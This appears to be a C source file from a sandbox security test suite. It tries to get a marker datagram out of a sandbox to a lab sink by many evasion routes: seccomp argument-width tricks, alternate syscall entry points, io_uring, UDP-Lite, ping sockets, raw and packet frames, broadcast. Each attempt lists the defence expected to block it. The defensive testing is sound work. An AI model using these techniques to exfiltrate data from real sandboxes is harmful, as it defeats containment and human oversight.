/* udp.c - B2, UDP exfiltration: get a datagram carrying the marker out of
 * the sandbox without the proxy (plain UDP, odd socket() encodings, other
 * entry points, other datagram protocols, raw frames). The sinks on
 * sink:9999/53/123 read it; the capture sees every frame that leaves.
 * The attacks on other entry points and raw sockets are in udp_entry.c. */
#include <errno.h>
#include <net/if.h>
#include <netinet/icmp6.h>
#include <netinet/in.h>
#include <netinet/ip_icmp.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "attack.h"
#include "udpdns.h"

#ifndef IPPROTO_UDPLITE
#define IPPROTO_UDPLITE 136
#endif

/* socket(domain, type, proto), then the marker to each port of host. */
static int udp_marker(const struct attack_env *env, struct attack_log *log, int domain, int type,
		      int proto, const char *desc, const char *host, const uint16_t *ports,
		      size_t nports, const char *label)
{
	int fd = ud_socket(log, domain, type, proto, desc);
	int sent = 0;

	if (fd < 0)
		return CLAIM_BLOCKED;
	for (size_t i = 0; i < nports; i++)
		if (ud_send_marker(env, log, fd, host, ports[i], label) > 0)
			sent++;
	close(fd);
	return SENT_CLAIM(sent);
}

static const uint16_t sink_ports[] = {9999, 53, 123};
static const uint16_t port_9999[] = {9999};

static int u01_baseline(const struct attack_env *env, struct attack_log *log)
{
	return udp_marker(env, log, AF_INET, SOCK_DGRAM, 0, "AF_INET, SOCK_DGRAM, 0", env->sink_v4,
			  sink_ports, 3, "U01");
}

static int u02_type_flags(const struct attack_env *env, struct attack_log *log)
{
	return udp_marker(env, log, AF_INET, SOCK_DGRAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0,
			  "AF_INET, SOCK_DGRAM|SOCK_NONBLOCK|SOCK_CLOEXEC (0x80802), 0",
			  env->sink_v4, port_9999, 1, "U02");
}

/* socket() through syscall(2), whose arguments are longs: junk in the upper
 * half of a register reaches the seccomp filter (which sees 64 bits) while
 * the kernel's SYSCALL_DEFINE truncates it to int. */
static int upper_bits(const struct attack_env *env, struct attack_log *log, long domain, long type,
		      const char *label)
{
	long fd = syscall(SYS_socket, domain, type, 0L);
	int err = errno, sent = 0;

	attack_step(log, "socket", fd, err, "syscall(SYS_socket, 0x%lx, 0x%lx, 0)",
		    (unsigned long)domain, (unsigned long)type);
	if (fd < 0)
		return CLAIM_BLOCKED;
	if (ud_send_marker(env, log, (int)fd, env->sink_v4, 9999, label) > 0)
		sent++;
	close((int)fd);
	return SENT_CLAIM(sent);
}

static int u03_type_upper(const struct attack_env *env, struct attack_log *log)
{
	return upper_bits(env, log, AF_INET, 0x100000000L | SOCK_DGRAM, "U03");
}

static int u03_domain_upper(const struct attack_env *env, struct attack_log *log)
{
	return upper_bits(env, log, 0x100000000L | AF_INET, SOCK_DGRAM, "U03.domain");
}

static int u04_v6(const struct attack_env *env, struct attack_log *log)
{
	return udp_marker(env, log, AF_INET6, SOCK_DGRAM, 0, "AF_INET6, SOCK_DGRAM, 0",
			  env->sink_v6, port_9999, 1, "U04");
}

static int u04_mapped(const struct attack_env *env, struct attack_log *log)
{
	char mapped[64];
	snprintf(mapped, sizeof(mapped), "::ffff:%s", env->sink_v4);
	return udp_marker(env, log, AF_INET6, SOCK_DGRAM, 0, "AF_INET6, SOCK_DGRAM, 0", mapped,
			  port_9999, 1, "U04.mapped");
}

/* ---- U08: sendmmsg, and sendmsg with an AF_UNSPEC name ---- */

static int u08_sendmmsg(const struct attack_env *env, struct attack_log *log)
{
	struct mmsghdr mm[3];
	struct sockaddr_storage ss[3];
	struct iovec iov[3];
	char buf[3][160];
	int fd, r, err;

	fd = ud_socket(log, AF_INET, SOCK_DGRAM, 0, "AF_INET, SOCK_DGRAM, 0");
	if (fd < 0)
		return CLAIM_BLOCKED;
	memset(mm, 0, sizeof(mm));
	for (int i = 0; i < 3; i++) {
		char label[32];
		snprintf(label, sizeof(label), "U08 #%d", i + 1);
		iov[i].iov_base = buf[i];
		iov[i].iov_len = (size_t)attack_marker_payload(env, label, buf[i], sizeof(buf[i]));
		mm[i].msg_hdr.msg_name = &ss[i];
		mm[i].msg_hdr.msg_namelen = attack_sockaddr(env->sink_v4, sink_ports[i], &ss[i]);
		mm[i].msg_hdr.msg_iov = &iov[i];
		mm[i].msg_hdr.msg_iovlen = 1;
	}
	r = sendmmsg(fd, mm, 3, MSG_NOSIGNAL);
	err = errno;
	attack_step(log, "sendmmsg", r, err, "3 messages to %s:9999, :53, :123", env->sink_v4);
	close(fd);
	return SENT_CLAIM(r);
}

static int u08_unspec(const struct attack_env *env, struct attack_log *log)
{
	struct sockaddr_storage ss;
	struct sockaddr_in sin;
	char buf[160], a[96];
	struct iovec iov = {.iov_base = buf};
	struct msghdr msg = {
	    .msg_name = &sin, .msg_namelen = sizeof(sin), .msg_iov = &iov, .msg_iovlen = 1};
	ssize_t r;
	int fd, err;

	fd = ud_socket(log, AF_INET, SOCK_DGRAM, 0, "AF_INET, SOCK_DGRAM, 0");
	if (fd < 0)
		return CLAIM_BLOCKED;
	attack_sockaddr(env->sink_v4, 9999, &ss);
	memcpy(&sin, &ss, sizeof(sin));
	sin.sin_family = AF_UNSPEC; /* udp_sendmsg takes AF_UNSPEC as AF_INET */
	iov.iov_len = (size_t)attack_marker_payload(env, "U08.unspec", buf, sizeof(buf));
	r = sendmsg(fd, &msg, MSG_NOSIGNAL);
	err = errno;
	attack_step(log, "sendmsg", r, err, "msg_name %s",
		    ud_addr_str((struct sockaddr *)&sin, a, sizeof(a)));
	close(fd);
	return SENT_CLAIM(r);
}

/* ---- U09 UDP-Lite, U10 ping sockets ---- */

static int u09_udplite(const struct attack_env *env, struct attack_log *log)
{
	return udp_marker(env, log, AF_INET, SOCK_DGRAM, IPPROTO_UDPLITE,
			  "AF_INET, SOCK_DGRAM, IPPROTO_UDPLITE", env->sink_v4, port_9999, 1,
			  "U09");
}

/* An echo request with the marker as its body; the kernel fills the id. A
 * reply proves the path, but the capture decides. */
static int ping(const struct attack_env *env, struct attack_log *log, bool v6)
{
	uint8_t pkt[256];
	const char *host = v6 ? env->sink_v6 : env->sink_v4;
	const char *label = v6 ? "U10.v6" : "U10";
	int fd, n, err;
	ssize_t r;

	fd = ud_socket(log, v6 ? AF_INET6 : AF_INET, SOCK_DGRAM, v6 ? IPPROTO_ICMPV6 : IPPROTO_ICMP,
		       v6 ? "AF_INET6, SOCK_DGRAM, IPPROTO_ICMPV6"
			  : "AF_INET, SOCK_DGRAM, IPPROTO_ICMP");
	if (fd < 0)
		return CLAIM_BLOCKED;
	memset(pkt, 0, 8);
	pkt[0] = v6 ? ICMP6_ECHO_REQUEST : ICMP_ECHO;
	pkt[7] = 1; /* sequence 1 */
	n = attack_marker_payload(env, label, (char *)pkt + 8, sizeof(pkt) - 8);
	r = ud_sendto(log, fd, pkt, (size_t)n + 8, 0, host, 0, "echo request, marker in the body");
	if (r > 0) {
		struct timeval tv = {.tv_sec = 1};
		int rr = setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
		err = errno;
		attack_step(log, "setsockopt", rr, err, "SO_RCVTIMEO 1 s");
		r = recv(fd, pkt, sizeof(pkt), 0);
		err = errno;
		attack_step(log, "recv", r, err, "echo reply (type %d)", r > 0 ? pkt[0] : -1);
		close(fd);
		return r > 0 ? CLAIM_ESCAPED : CLAIM_UNSURE;
	}
	close(fd);
	return CLAIM_BLOCKED;
}

static int u10_ping(const struct attack_env *env, struct attack_log *log)
{
	return ping(env, log, false);
}

static int u10_ping6(const struct attack_env *env, struct attack_log *log)
{
	return ping(env, log, true);
}

/* ---- U14: broadcast and multicast ---- */

static int u14_broadcast(const struct attack_env *env, struct attack_log *log)
{
	int fd, on = 1, r, err;
	ssize_t n;

	fd = ud_socket(log, AF_INET, SOCK_DGRAM, 0, "AF_INET, SOCK_DGRAM, 0");
	if (fd < 0)
		return CLAIM_BLOCKED;
	r = setsockopt(fd, SOL_SOCKET, SO_BROADCAST, &on, sizeof(on));
	err = errno;
	attack_step(log, "setsockopt", r, err, "SO_BROADCAST 1");
	n = ud_send_marker(env, log, fd, "255.255.255.255", 9999, "U14.broadcast");
	close(fd);
	return SENT_CLAIM(n);
}

static int u14_multicast(const struct attack_env *env, struct attack_log *log)
{
	struct ip_mreqn mr;
	struct in_addr gw;
	char ifname[IF_NAMESIZE];
	int fd, r, err;
	ssize_t n;

	fd = ud_socket(log, AF_INET, SOCK_DGRAM, 0, "AF_INET, SOCK_DGRAM, 0");
	if (fd < 0)
		return CLAIM_BLOCKED;
	if (ud_default_route(log, ifname, &gw) == 0) {
		memset(&mr, 0, sizeof(mr));
		mr.imr_ifindex = (int)if_nametoindex(ifname);
		r = setsockopt(fd, IPPROTO_IP, IP_MULTICAST_IF, &mr, sizeof(mr));
		err = errno;
		attack_step(log, "setsockopt", r, err, "IP_MULTICAST_IF %s (ifindex %d)", ifname,
			    mr.imr_ifindex);
	}
	n = ud_send_marker(env, log, fd, "224.0.0.251", 5353, "U14.multicast");
	close(fd);
	return SENT_CLAIM(n);
}

/* ---- the table ---- */

#define NS_UDP "nftables: meta l4proto udp reject (icmp port-unreachable)"
#define P_DGRAM "seccomp: socket(AF_INET, SOCK_DGRAM) -> EPERM"
#define P_DGRAM6 "seccomp: socket(AF_INET6, SOCK_DGRAM) -> EPERM"
#define NOTIFY_DGRAM "seccomp socket(SOCK_DGRAM) -> EPERM, before any notified sendto"
#define STRICT_ALLOW "seccomp socket allowlist -> EPERM (Landlock UDP too at ABI >= 10)"
#define IA32_KILL "seccomp: non-native arch (i386) -> kill (SIGSYS)"

/* clang-format off */
const struct attack attacks_udp[] = {
	{
		.id = "U01",
		.family = FAM_UDP,
		.title = "Plain UDP to the internet (ports 9999, 53, 123)",
		.tries = "The baseline: one IPv4 datagram with the marker to the attacker's host on "
			 "9999, 53 and 123. The proxy only carries TCP; UDP must be stopped "
			 "below it.",
		.syscalls = "socket(AF_INET, SOCK_DGRAM, 0); sendto(sink:9999); sendto(sink:53); "
			    "sendto(sink:123)",
		.refs = "attack-catalog.md B2 U01; navikt/cplt#241",
		.expect = {NS_UDP, P_DGRAM, NOTIFY_DGRAM, STRICT_ALLOW},
		.run = u01_baseline,
	},
	{
		.id = "U02",
		.family = FAM_UDP,
		.title = "UDP socket with SOCK_NONBLOCK|SOCK_CLOEXEC in the type",
		.tries = "type = 0x80802: a filter that compares the type for equality with "
			 "SOCK_DGRAM misses it; it must mask the type with 0xf.",
		.syscalls = "socket(AF_INET, SOCK_DGRAM|SOCK_NONBLOCK|SOCK_CLOEXEC, 0); "
			    "sendto(sink:9999)",
		.refs = "attack-catalog.md B2 U02; DataDog/datadog-agent PR #43523; wasix-libc#122",
		.expect = {NS_UDP, "seccomp: type masked with SOCK_TYPE_MASK (0xf) -> EPERM",
			   NOTIFY_DGRAM, STRICT_ALLOW},
		.run = u02_type_flags,
	},
	{
		.id = "U03",
		.family = FAM_UDP,
		.title = "UDP socket type with junk in the upper 32 bits",
		.tries = "syscall(SYS_socket, AF_INET, 0x100000002, 0): the kernel reads an int "
			 "(SOCK_DGRAM), a filter comparing 64 bits sees something else and "
			 "allows it.",
		.syscalls = "syscall(SYS_socket, AF_INET, 0x100000002, 0); sendto(sink:9999)",
		.refs = "attack-catalog.md B2 U03; CVE-2019-10063 (flatpak TIOCSTI); "
			"libseccomp#383; docs/seccomp.md 'Argument widths'",
		.expect = {NS_UDP, "seccomp compares 32 bits (masked_eq 0xffffffff) -> EPERM",
			   NOTIFY_DGRAM, STRICT_ALLOW},
		.run = u03_type_upper,
	},
	{
		.id = "U03.domain",
		.family = FAM_UDP,
		.title = "UDP socket domain with junk in the upper 32 bits",
		.tries = "syscall(SYS_socket, 0x100000002, SOCK_DGRAM, 0): the same trick on the "
			 "domain argument, which the filter compares with eq AF_INET.",
		.syscalls = "syscall(SYS_socket, 0x100000002, SOCK_DGRAM, 0); sendto(sink:9999)",
		.refs = "attack-catalog.md B2 U03; libseccomp#383; docs/seccomp.md 'Argument "
			"widths'",
		.expect = {NS_UDP, "seccomp compares 32 bits (eq on the Dword) -> EPERM",
			   NOTIFY_DGRAM, STRICT_ALLOW},
		.run = u03_domain_upper,
	},
	{
		.id = "U04",
		.family = FAM_UDP,
		.title = "UDP over IPv6",
		.tries = "An AF_INET6 datagram to [sink6]:9999: an IPv4-only rule set (seccomp or "
			 "nftables) would miss it.",
		.syscalls = "socket(AF_INET6, SOCK_DGRAM, 0); sendto([2001:db8:100::10]:9999)",
		.refs = "attack-catalog.md B2 U04; landlock net_test.c ipv6 variants",
		.expect = {"no IPv6 route in the sandbox netns: ENETUNREACH (nftables inet rejects "
			   "v6 udp too)",
			   P_DGRAM6, NOTIFY_DGRAM, STRICT_ALLOW},
		.run = u04_v6,
	},
	{
		.id = "U04.mapped",
		.family = FAM_UDP,
		.title = "UDP from an IPv6 socket to an IPv4-mapped address",
		.tries = "AF_INET6 socket, destination ::ffff:sink: IPv4 on the wire from a v6 "
			 "socket; a filter keyed on the socket family or on ip6 rules alone "
			 "misses one side.",
		.syscalls = "socket(AF_INET6, SOCK_DGRAM, 0); sendto([::ffff:198.51.100.10]:9999)",
		.refs = "attack-catalog.md B2 U04, B1 T03; Kilo-Org/kilocode PR #11659",
		.expect = {"nftables inet table: the IPv4 packet meets the udp reject", P_DGRAM6,
			   NOTIFY_DGRAM, STRICT_ALLOW},
		.run = u04_mapped,
	},
	{
		.id = "U05.socketcall",
		.family = FAM_UDP,
		.title = "UDP through the i386 socketcall entry point (int $0x80)",
		.tries = "socketcall(SYS_SOCKET) then socketcall(SYS_SENDTO) through int $0x80: "
			 "the arguments are a pointer, so a filter without an arch check can "
			 "not see the socket type at all.",
		.syscalls = "mmap(MAP_32BIT); int $0x80 eax=102 ebx=1 (SYS_SOCKET); int $0x80 "
			    "eax=102 ebx=11 (SYS_SENDTO, sink:9999)",
		.needs = {.probe = {"entry_points.ia32"}},
		.refs = "attack-catalog.md B2 U05; man seccomp(2) arch checks; systemd#4575; "
			"libseccomp#476; docs/seccomp.md 'Architectures'",
		.expect = {IA32_KILL, IA32_KILL, IA32_KILL, "seccomp: non-native arch -> EPERM"},
		.run = u05_socketcall,
	},
	{
		.id = "U05.ia32-socket",
		.family = FAM_UDP,
		.title = "UDP through the i386 socket and sendto syscalls (int $0x80)",
		.tries = "i386 __NR_socket (359) and __NR_sendto (369): the same syscalls under "
			 "other numbers; an x86_64-only rule on nr 41 never matches them.",
		.syscalls = "mmap(MAP_32BIT); int $0x80 eax=359 (AF_INET, SOCK_DGRAM, 0); int "
			    "$0x80 eax=369 (sendto sink:9999)",
		.needs = {.probe = {"entry_points.ia32"}},
		.refs = "attack-catalog.md B2 U05; TLPI seccomp_multiarch.c; NixOS commit a3dc1e6",
		.expect = {IA32_KILL, IA32_KILL, IA32_KILL, "seccomp: non-native arch -> EPERM"},
		.run = u05_ia32_socket,
	},
	{
		.id = "U05.x32",
		.family = FAM_UDP,
		.title = "UDP through the x32 syscall numbers",
		.tries = "socket and sendto with nr | 0x40000000: arch is still AUDIT_ARCH_X86_64, "
			 "so a seccompiler-style filter (no x32 check) matches none of its "
			 "rules and takes the default action.",
		.syscalls = "syscall(0x40000000|41, AF_INET, SOCK_DGRAM, 0); "
			    "syscall(0x40000000|44, sendto sink:9999)",
		.needs = {.probe = {"entry_points.x32"}},
		.refs = "attack-catalog.md B2 U05; rofl0r 'bypassing sloppy seccomp blacklists' "
			"(X32); docs/seccomp.md 'Architectures'",
		.expect = {NS_UDP,
			   "none where CONFIG_X86_X32_ABI: x32 numbers take the default allow",
			   "none: notify does not cover x32 numbers", "seccomp: x32 -> EPERM"},
		.run = u05_x32,
	},
	{
		.id = "U06",
		.family = FAM_UDP,
		.title = "UDP socket and sendmsg through io_uring",
		.tries = "IORING_OP_SOCKET creates the UDP socket and IORING_OP_SENDMSG sends the "
			 "marker: seccomp never sees socket() or sendmsg(). Only refusing "
			 "io_uring_setup (or Landlock UDP at ABI >= 10) stops it.",
		.syscalls = "io_uring_setup; IORING_OP_SOCKET(AF_INET, SOCK_DGRAM, 0); "
			    "IORING_OP_SENDMSG(sink:9999)",
		.needs = {.probe = {"entry_points.io_uring_socket"}},
		.refs = "attack-catalog.md §0.6, B2 U06; moby#46762; containerd#9320; "
			"commit 591beb0e3a03",
		.expect = {"seccomp base: io_uring_setup -> EPERM (nftables would reject udp)",
			   "seccomp base: io_uring_setup -> EPERM",
			   "seccomp base: io_uring_setup -> EPERM (notify never sees io_uring)",
			   "io_uring refused"},
		.run = u06_io_uring,
	},
	{
		.id = "U08",
		.family = FAM_UDP,
		.title = "sendmmsg with several destinations",
		.tries = "One sendmmsg call carrying three datagrams to sink:9999, :53 and :123: a "
			 "mediator that inspects connect/sendto/sendmsg but not sendmmsg misses "
			 "them.",
		.syscalls = "socket(AF_INET, SOCK_DGRAM, 0); sendmmsg(3 messages to sink:9999, :53, "
			    ":123)",
		.refs = "attack-catalog.md B2 U08",
		.expect = {NS_UDP, P_DGRAM, "seccomp socket(SOCK_DGRAM); notify never sees sendmmsg",
			   STRICT_ALLOW},
		.run = u08_sendmmsg,
	},
	{
		.id = "U08.unspec",
		.family = FAM_UDP,
		.title = "sendmsg with an AF_UNSPEC destination on an IPv4 UDP socket",
		.tries = "msg_name with sa_family = AF_UNSPEC: udp_sendmsg treats it as AF_INET, a "
			 "mediator that only checks AF_INET/AF_INET6 names lets it pass.",
		.syscalls = "socket(AF_INET, SOCK_DGRAM, 0); sendmsg(msg_name {AF_UNSPEC, "
			    "sink:9999})",
		.refs = "attack-catalog.md B2 U08; security/landlock/net.c AF_UNSPEC comments",
		.expect = {NS_UDP, P_DGRAM, NOTIFY_DGRAM, STRICT_ALLOW},
		.run = u08_unspec,
	},
	{
		.id = "U09",
		.family = FAM_UDP,
		.title = "UDP-Lite (IPPROTO_UDPLITE, protocol 136)",
		.tries = "A UDP-Lite datagram to sink:9999: nftables 'meta l4proto udp' does not "
			 "match protocol 136 and Landlock's UDP rights require IPPROTO_UDP.",
		.syscalls = "socket(AF_INET, SOCK_DGRAM, IPPROTO_UDPLITE); sendto(sink:9999)",
		.needs = {.probe = {"protocols.udplite"}},
		.refs = "attack-catalog.md B2 U09",
		.expect = {"none: the reference rejects l4proto tcp/udp only; 136 is forwarded",
			   P_DGRAM " (any protocol)", NOTIFY_DGRAM, STRICT_ALLOW},
		.run = u09_udplite,
	},
	{
		.id = "U10",
		.family = FAM_UDP,
		.title = "ICMP echo through an unprivileged ping socket",
		.tries = "socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP) needs no capability where "
			 "net.ipv4.ping_group_range includes the gid (the lab's pod widens it); "
			 "the marker rides in the echo body. nftables rules for tcp/udp only "
			 "do not see ICMP.",
		.syscalls = "socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP); sendto(sink, echo "
			    "request + marker); recv(echo reply, 1 s)",
		.refs = "attack-catalog.md B2 U10; Docker sandboxes doc ('UDP and ICMP traffic is "
			"blocked at the network layer')",
		.expect = {"ping_group_range '1 0' in the sandbox netns -> EACCES (nftables has no "
			   "icmp rule)",
			   P_DGRAM, NOTIFY_DGRAM, STRICT_ALLOW},
		.run = u10_ping,
	},
	{
		.id = "U10.v6",
		.family = FAM_UDP,
		.title = "ICMPv6 echo through an unprivileged ping socket",
		.tries = "The same with IPPROTO_ICMPV6 (the same ping_group_range gates it).",
		.syscalls = "socket(AF_INET6, SOCK_DGRAM, IPPROTO_ICMPV6); sendto([sink6], echo "
			    "request + marker); recv(echo reply, 1 s)",
		.refs = "attack-catalog.md B2 U10",
		.expect = {"ping_group_range '1 0' in the sandbox netns -> EACCES", P_DGRAM6,
			   NOTIFY_DGRAM, STRICT_ALLOW},
		.run = u10_ping6,
	},
	{
		.id = "U11.raw",
		.family = FAM_UDP,
		.title = "Raw IPv4 socket carrying a hand-built UDP datagram",
		.tries = "socket(AF_INET, SOCK_RAW, IPPROTO_UDP) and a UDP header written by hand: "
			 "a SOCK_DGRAM rule does not match SOCK_RAW; only the missing "
			 "CAP_NET_RAW stops it.",
		.syscalls = "socket(AF_INET, SOCK_RAW, IPPROTO_UDP); sendto(sink, UDP header "
			    "dport 9999 + marker)",
		.needs = {.probe = {"protocols.raw_v4"}},
		.refs = "attack-catalog.md B2 U11; landlock-lsm/linux#50",
		.expect = {"no CAP_NET_RAW -> EPERM (nftables would reject udp)",
			   "no CAP_NET_RAW -> EPERM", "no CAP_NET_RAW -> EPERM",
			   "socket allowlist; no CAP_NET_RAW"},
		.run = u11_raw,
	},
	{
		.id = "U11.packet",
		.family = FAM_UDP,
		.title = "AF_PACKET frame with IPv4/UDP and the marker",
		.tries = "A whole Ethernet frame (to the gateway's MAC, or broadcast) written on the "
			 "default route's interface: below routing and below netfilter's IP "
			 "hooks, so rules inside the sandbox netns never see it.",
		.syscalls = "socket(AF_PACKET, SOCK_RAW, 0); ioctl(SIOCGIFINDEX, SIOCGIFHWADDR, "
			    "SIOCGIFADDR); sendto(sockaddr_ll, Ethernet/IPv4/UDP to sink:9999)",
		.needs = {.probe = {"protocols.packet"}},
		.refs = "attack-catalog.md §0.9, B2 U11; tcpreplay#465; scapy#762",
		.expect = {"seccomp base: socket(AF_PACKET) -> EPERM (and no CAP_NET_RAW)",
			   "seccomp base: socket(AF_PACKET) -> EPERM (and no CAP_NET_RAW)",
			   "seccomp base: socket(AF_PACKET) -> EPERM",
			   "seccomp base: socket(AF_PACKET) -> EPERM"},
		.run = u11_packet,
	},
	{
		.id = "U14.broadcast",
		.family = FAM_UDP,
		.title = "UDP to the limited broadcast address",
		.tries = "SO_BROADCAST and a datagram to 255.255.255.255:9999: every host on the "
			 "pod's link receives it (LAN exfiltration); no routable address is "
			 "involved.",
		.syscalls = "socket(AF_INET, SOCK_DGRAM, 0); setsockopt(SO_BROADCAST); "
			    "sendto(255.255.255.255:9999)",
		.refs = "attack-catalog.md B2 U14",
		.expect = {NS_UDP, P_DGRAM, NOTIFY_DGRAM, STRICT_ALLOW},
		.run = u14_broadcast,
	},
	{
		.id = "U14.multicast",
		.family = FAM_UDP,
		.title = "UDP to a link-local multicast group (224.0.0.251:5353)",
		.tries = "A datagram to the mDNS group on the default route's interface: link "
			 "scope, no route needed, seen by every listener on the link.",
		.syscalls = "socket(AF_INET, SOCK_DGRAM, 0); setsockopt(IP_MULTICAST_IF); "
			    "sendto(224.0.0.251:5353)",
		.refs = "attack-catalog.md B2 U14",
		.expect = {NS_UDP, P_DGRAM, NOTIFY_DGRAM, STRICT_ALLOW},
		.run = u14_multicast,
	},
	{0},
};
/* clang-format on */
